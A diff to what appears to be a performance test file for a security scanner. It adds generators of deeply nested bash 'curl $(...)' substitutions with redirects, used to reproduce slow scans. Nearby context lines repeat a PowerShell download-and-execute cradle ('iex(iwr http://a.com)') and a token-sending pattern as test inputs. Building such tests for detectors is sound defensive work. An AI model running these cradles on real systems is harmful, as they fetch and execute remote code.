@@ -59,6 +59,12 @@ def _nested(n: int) -> str:
 # Shapes a reviewer found (2026-12-03), each 10-24 s at about 50 KB before its fix: one finding per repeat
 # with work per finding that grew with the line or the nesting. Scanned whole, by check_text.
 SHAPED: dict[str, Callable[[int], str]] = {
+    # redirects on statements nested in substitutions (2026-12-03): each level walked every command below
+    # it again, 4.7-5.8 s at 4.8 KB; now a range of one index of the snippet's commands
+    "prefix redirects, nested": lambda n: "```bash\n" + "< f curl $(" * (n // 12) + ")" * (n // 12) + "\n```",
+    "redirected statements, nested": lambda n: (
+        "```bash\n" + "curl $(" * (n // 12) + ") > f" * (n // 12) + "\n```"
+    ),
     "send $token…": lambda n: "send $" + "token" * (n // 5),
     "powershell cradles, fenced": lambda n: (
         "```powershell\n" + "iex(iwr http://a.com) ; " * (n // 24) + "\n```"
